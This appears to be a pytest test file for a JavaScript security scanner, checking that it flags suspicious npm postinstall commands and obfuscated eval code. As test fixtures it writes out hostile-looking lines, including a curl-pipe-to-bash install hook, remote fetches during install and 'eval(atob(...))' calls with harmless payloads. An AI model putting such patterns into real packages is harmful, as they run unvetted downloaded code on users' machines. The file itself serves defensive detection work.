@@ -1,0 +1,102 @@
+import json
+
+import pytest
+
+from scanner.analyzers.base import Severity
+from scanner.analyzers.javascript import JavaScriptAnalyzer
+
+
+def findings_in(folder):
+    return list(JavaScriptAnalyzer().analyze(folder))
+
+
+def rules(folder):
+    return {finding.rule for finding in findings_in(folder)}
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("curl -s https://x.invalid/a.sh | bash", "javascript.shell-download"),
+        ("node -e \"require('https').get('https://x.invalid')\"", "javascript.exec-downloaded"),
+        ("wget https://x.invalid/tool", "javascript.install-network"),
+        ("node prepare.js", "javascript.install-script"),
+    ],
+)
+def test_what_npm_runs_at_install_is_read(tree, command, rule):
+    package = {"name": "app", "scripts": {"start": "node app.js", "postinstall": command}}
+    folder = tree({"package.json": json.dumps(package, indent=2)})
+
+    (finding,) = findings_in(folder)
+
+    assert (finding.rule, finding.path, finding.line) == (rule, "package.json", 5)
+
+
+@pytest.mark.parametrize("command", ["husky install", "node-gyp rebuild", "npm run build"])
+def test_ordinary_install_steps_are_silent(tree, command):
+    folder = tree({"package.json": json.dumps({"scripts": {"postinstall": command}})})
+
+    assert findings_in(folder) == []
+
+
+def test_a_script_that_runs_at_install_may_not_use_the_network(tree):
+    package = json.dumps({"scripts": {"postinstall": "node ./tools/setup"}})
+    fetching = "fetch('https://files.invalid/x');\n"
+
+    folder = tree({"package.json": package, "tools/setup.js": fetching, "app.js": fetching})
+
+    found = {(f.path, f.rule) for f in findings_in(folder)}
+    assert ("tools/setup.js", "javascript.install-network") in found
+    assert not any(path == "app.js" for path, _ in found)
+
+
+def test_dependencies_and_minified_files_are_read_for_malicious_code_only(tree):
+    weak = "exports.run = (code) => eval(code);\n"
+    bad = "eval(atob('Y29uc29sZQ=='));\n"
+    files = {
+        "node_modules/weak/index.js": weak,
+        "node_modules/bad/index.js": bad,
+        "public/weak.min.js": weak,
+        "public/bad.js": bad + "/*" + "x" * 2000 + "*/",
+    }
+
+    found = {(f.path, f.rule) for f in findings_in(tree(files))}
+
+    assert found == {
+        ("node_modules/bad/index.js", "javascript.exec-decoded"),
+        ("public/bad.js", "javascript.exec-decoded"),
+    }
+
+
+def test_broken_and_nested_files_end_neither_the_scan_nor_the_process(tree):
+    files = {
+        "deep.js": "[" * 200_000,
+        "sum.js": "x = " + "+".join(["a"] * 50_000),
+        "calls.js": "a" + "(b" * 20_000,
+        "half.ts": "class { constructor( { eval(atob('eA==')) ",
+        "package.json": "[" * 100_000,
+        "bad.js": "eval(atob('eA=='));\n",
+    }
+
+    found = {(f.path, f.rule) for f in findings_in(tree(files))}
+
+    assert ("bad.js", "javascript.exec-decoded") in found
+    assert ("package.json", "engine.unreadable") in found
+
+
+def test_names_of_a_callback_do_not_mix_with_those_around_it(tree):
+    code = (
+        "const data = fetch('https://api.invalid/list');\n"
+        "exports.each = (list) => list.forEach((data) => eval(data));\n"
+    )
+
+    assert rules(tree({"app.js": code})) == {"javascript.dynamic-code"}
+
+
+def test_a_long_line_shows_what_was_found_in_it(tree):
+    folder = tree({"app.js": "/*" + "x" * 900 + "*/eval(atob('eA=='));\n"})
+
+    (finding,) = findings_in(folder)
+
+    assert "eval(atob" in finding.evidence
+    assert finding.severity is Severity.CRITICAL
